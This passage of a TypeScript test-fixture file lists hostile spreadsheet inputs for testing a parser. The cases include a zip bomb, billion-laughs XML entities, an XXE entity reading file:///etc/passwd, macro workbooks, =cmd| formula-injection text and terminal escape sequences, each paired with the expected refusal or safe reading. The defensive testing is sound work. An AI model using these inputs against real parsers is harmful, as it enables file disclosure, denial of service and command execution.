    titleEn: "A 30 MB sheet of repeated XML packed into 140 KB (about 1:225; the limit is 1:100)",
    expected: { outcome: "refused", reason: "inflate_limit" },
    make: highRatio,
  },
  {
    file: "billion-laughs.xlsx",
    title:
      "”Billion laughs”: nästlade XML-entiteter (10⁹ × ”lol”) i delade strängar och relationer",
    titleEn:
      'Billion laughs: nested XML entities (10⁹ × "lol") in shared strings and relationships',
    expected: {
      outcome: "read",
      notes: ["entiteter expanderas inte", "cellen med &lol9; blir inte 3 GB text"],
    },
    make: billionLaughs,
  },
  {
    file: "extern-entitet.xlsx",
    title: "Extern XML-entitet (XXE) som pekar på file:///etc/passwd i en delad sträng",
    titleEn: "External XML entity (XXE) pointing at file:///etc/passwd in a shared string",
    expected: {
      outcome: "read",
      notes: [
        "externa entiteter läses aldrig; inget från /etc/passwd (”root:”) hamnar i resultatet",
      ],
    },
    make: externalEntity,
  },
  {
    file: "losenord.xlsx",
    title:
      "Lösenordsskyddad (krypterad) arbetsbok: OLE-fil med EncryptionInfo och EncryptedPackage",
    titleEn:
      "Password-protected (encrypted) workbook: an OLE file with EncryptionInfo and EncryptedPackage",
    expected: { outcome: "refused", reason: "encrypted" },
    make: bytes(encrypted),
  },
  {
    file: "makro.xlsm",
    title: "Makroaktiverad arbetsbok med vbaProject.bin",
    titleEn: "Macro-enabled workbook with vbaProject.bin",
    expected: { outcome: "read", notes: ["makron ignoreras"] },
    make: macroEnabled,
  },
  {
    file: "gammal.xls",
    title: "Listan i Excel 97–2003-format (.xls, BIFF8)",
    titleEn: "The list in Excel 97–2003 format (.xls, BIFF8)",
    expected: { outcome: "refused", reason: "legacy_format" },
    make: bytes(() => sheetjsListFile("biff8")),
  },
  {
    file: "binar.xlsb",
    title: "Listan som binär arbetsbok (.xlsb)",
    titleEn: "The list as a binary workbook (.xlsb)",
    expected: { outcome: "refused", reason: "legacy_format" },
    make: bytes(() => sheetjsListFile("xlsb")),
  },
  {
    file: "kalkyl.ods",
    title: "Listan som OpenDocument-kalkylblad (.ods)",
    titleEn: "The list as an OpenDocument spreadsheet (.ods)",
    expected: {
      outcome: "read",
      notes: ["ODS läses; tabeller och dolda blad finns inte i ODS-läsningen"],
    },
    make: bytes(() => sheetjsListFile("ods")),
  },
  {
    file: "lista.csv",
    title: "Svensk CSV: semikolon, decimalkomma, hårt mellanslag, Windows-1252",
    titleEn: "Swedish CSV: semicolons, decimal commas, no-break spaces, Windows-1252",
    expected: { outcome: "refused", reason: "text_file" },
    make: bytes(swedishCsv),
  },
  {
    file: "lista-csv-som.xlsx",
    title: "Samma CSV-fil med filändelsen .xlsx",
    titleEn: "The same CSV file named .xlsx",
    expected: { outcome: "refused", reason: "text_file" },
    make: bytes(swedishCsv),
  },
  {
    file: "hundratusen-rader.xlsx",
    title: "100 000 initiativ × 10 kolumner",
    titleEn: "100,000 initiatives × 10 columns",
    large: true,
    expected: { outcome: "read" },
    make: hundredThousandRows,
  },
  {
    file: "langa-celler.xlsx",
    title: "Celler med 32 767 tecken (Excels största) i namn och behov",
    titleEn: "Cells of 32,767 characters (Excel's maximum) in the name and need columns",
    expected: { outcome: "read" },
    make: longCells,
  },
  {
    file: "sammanfogade.xlsx",
    title: "Sammanfogade celler: en rubrik över hela bredden och Förvaltning över flera rader",
    titleEn: "Merged cells: a title across the top and Förvaltning merged over several rows",
    expected: {
      outcome: "read",
      notes: ["sammanfogade celler: värdet står bara i den översta cellen; rubrikraden är rad 2"],
    },
    make: mergedCells,
  },
  {
    file: "dolda.xlsx",
    title: "Dolt blad med en lista, ett mycket dolt blad, en dold rad och en dold kolumn",
    titleEn: "A hidden sheet with a list, a very hidden sheet, a hidden row and a hidden column",
    expected: {
      outcome: "read",
      notes: [
        "bladet ”Gamla initiativ” är dolt (och står först)",
        "bladet ”Hemligt” är mycket dolt (veryHidden)",
        "rad 3 på ”Initiativ” (HK-2026-02) är dold",
        "kolumn D (Ansvarig) på ”Initiativ” är dold",
      ],
    },
    make: hiddenThings,
  },
  {
    file: "hela-kolumner.xlsx",
    title:
      "Dataverifiering på hela kolumner (t.ex. C2:C1048576) i fem kolumner och villkorsstyrd formatering på hela kolumner",
    titleEn:
      "Data validation over whole columns (e.g. C2:C1048576) in five columns, conditional formats over whole columns",
    expected: { outcome: "read" },
    make: wholeColumns,
  },
  {
    file: "externa-lankar.xlsx",
    title:
      "Formler som hämtar från en annan arbetsbok (file:///C:/hemlig/budget.xlsx) med sparade värden",
    titleEn:
      "Formulas referring to another workbook (file:///C:/hemlig/budget.xlsx) with cached values",
    expected: {
      outcome: "read",
      notes: ["länkar till andra arbetsböcker följs inte; sparade värden används"],
    },
    make: externalLinks,
  },
  {
    file: "formelfel.xlsx",
    title: "#REF!, #DIV/0!, #N/A och #VALUE! i beloppskolumnerna",
    titleEn: "#REF!, #DIV/0!, #N/A and #VALUE! in the amount columns",
    expected: { outcome: "read", notes: ["felvärden i Investering och Kostnadsbesparing per år"] },
    make: formulaErrors,
  },
  {
    file: "datum-1904.xlsx",
    title: "Arbetsbok med 1904-datumsystemet (äldre Mac-Excel)",
    titleEn: "Workbook using the 1904 date system (older Excel for Mac)",
    expected: {
      outcome: "read",
      notes: ["datumen ska bli rätt (2026-02-01 osv.), inte fyra år fel"],
    },
    make: dates1904,
  },
  {
    file: "nbsp-tal.xlsx",
    title: "Belopp som text med hårda mellanslag (U+00A0, U+202F), ”kr” och ”mnkr”",
    titleEn: 'Amounts stored as text with no-break spaces (U+00A0, U+202F), "kr" and "mnkr"',
    expected: { outcome: "read" },
    make: nbspAmounts,
  },
  {
    file: "formler-i-text.xlsx",
    title: "Textceller som börjar med =, +, - eller @ (t.ex. =HYPERLINK(...), =cmd|...)",
    titleEn: "Text cells starting with =, +, - or @ (e.g. =HYPERLINK(...), =cmd|...)",
    expected: { outcome: "read", notes: ["texten förblir text; den skrivs aldrig ut som formel"] },
    make: formulaLikeText,
  },
  {
    file: "tom.xlsx",
    title: "En tom fil (0 byte)",
    titleEn: "An empty file (0 bytes)",
    expected: { outcome: "refused", reason: "empty" },
    make: bytes(() => new Uint8Array(0)),
  },
  {
    file: "word.xlsx",
    title: "Ett Word-dokument (.docx) som döpts om till .xlsx",
    titleEn: "A Word document (.docx) renamed .xlsx",
    expected: { outcome: "refused", reason: "not_a_workbook" },
    make: bytes(wordDocument),
  },
  {
    file: "bara-rubriker.xlsx",
    title: "Bara rubrikraden, inga initiativ",
    titleEn: "Only the header row, no initiatives",
    expected: { outcome: "read", notes: ["listan har inga initiativ"] },
    make: () => listWorkbook([]),
  },
  // Issue 14: what a shared folder holds. The files are written by hand-made SpreadsheetML
  // (sharedFolderCases.ts, by an author who had not read the reader).
  {
    file: "samma-bladnamn.xlsx",
    title: "Två blad med samma namn i workbook.xml (skadad eller genererad fil), olika rader",
    titleEn:
      "Two sheets with the same name in workbook.xml (a damaged or generated file), different rows",
    expected: { outcome: "read", notes: ["båda bladens rader läses; det andra heter ”Lista (2)”"] },
    ownList: true,
    make: bytes(duplicateSheetNames),
  },
  {
    file: "latin1-strangar.xlsx",
    title: "Delade strängar deklarerade och kodade som ISO-8859-1",
    titleEn: "Shared strings declared and encoded as ISO-8859-1",
    expected: { outcome: "read", notes: ["å, ä och ö läses rätt"] },
    ownList: true,
    make: bytes(() => singleByteSharedStrings(LATIN1_ROWS, "ISO-8859-1")),
  },
  {
    file: "cp1252-strangar.xlsx",
    title: "Delade strängar deklarerade och kodade som windows-1252 (–, ”, €)",
    titleEn: "Shared strings declared and encoded as windows-1252 (–, ”, €)",
    expected: { outcome: "read", notes: ["å, ä, ö, –, ” och € läses rätt"] },
    ownList: true,
    make: bytes(() => singleByteSharedStrings(CP1252_ROWS, "windows-1252")),
  },
  {
    file: "for-lang-text.xlsx",
    title: "Namn och beskrivning på 40 000 tecken, över Excels gräns på 32 767 per cell",
    titleEn: "Name and description of 40,000 characters, over Excel's limit of 32,767 per cell",
    expected: {
      outcome: "read",
      notes: ["texten kortas i portföljen, markerad […], med text_truncated"],
    },
    ownList: true,
    make: bytes(longTextList),
  },
  {
    file: "sista-cellen.xlsx",
    title: "En liten lista och en cell i XFD1048576, Excels allra sista cell",
    titleEn: "A small list and one cell at XFD1048576, Excel's very last cell",
    expected: { outcome: "refused", reason: "too_many_rows" },
    ownList: true,
    make: bytes(lastCellWorkbook),
  },
  {
    file: "utanfor-rutnatet.xlsx",
    title: "En cell i A99999999, utanför Excels rutnät",
    titleEn: "A cell at A99999999, outside Excel's grid",
    expected: { outcome: "refused", reason: "outside_grid" },
    ownList: true,
    make: bytes(beyondGridWorkbook),
  },
  {
    file: "styrtecken.xlsx",
    title: "Celltexter med terminalens styrsekvenser (ESC [2J, OSC-titel, C1 0x9B, U+202E)",
    titleEn: "Cell texts with terminal escape sequences (ESC [2J, OSC title, C1 0x9B, U+202E)",
    expected: { outcome: "read", notes: ["kommandoraden visar dem som \\u001B osv., aldrig råa"] },
    ownList: true,
    make: bytes(escapeSequenceList),
  },
  {
    file: "saknad-delad-strang.xlsx",
    title: "En cell pekar på en delad sträng som inte finns (index 9999)",
    titleEn: "A cell refers to a shared string that does not exist (index 9999)",
    expected: { outcome: "read", notes: ["cellen får shared_string_missing; resten läses"] },
    ownList: true,
    make: bytes(missingSharedString),
  },
  {
    file: "mall.xltx",
    title: "Listan sparad som Excel-mall (.xltx)",
    titleEn: "The list saved as an Excel template (.xltx)",
    expected: { outcome: "read" },
    ownList: true,
    make: bytes(templateWorkbook),
  },
];

export function hostileCase(file: string): HostileCase {
  const found = HOSTILE_CASES.find((c) => c.file === file);
  if (!found)
    throw new Error(
      `no hostile case ${file}; known: ${HOSTILE_CASES.map((c) => c.file).join(", ")}`
    );
  return found;
}
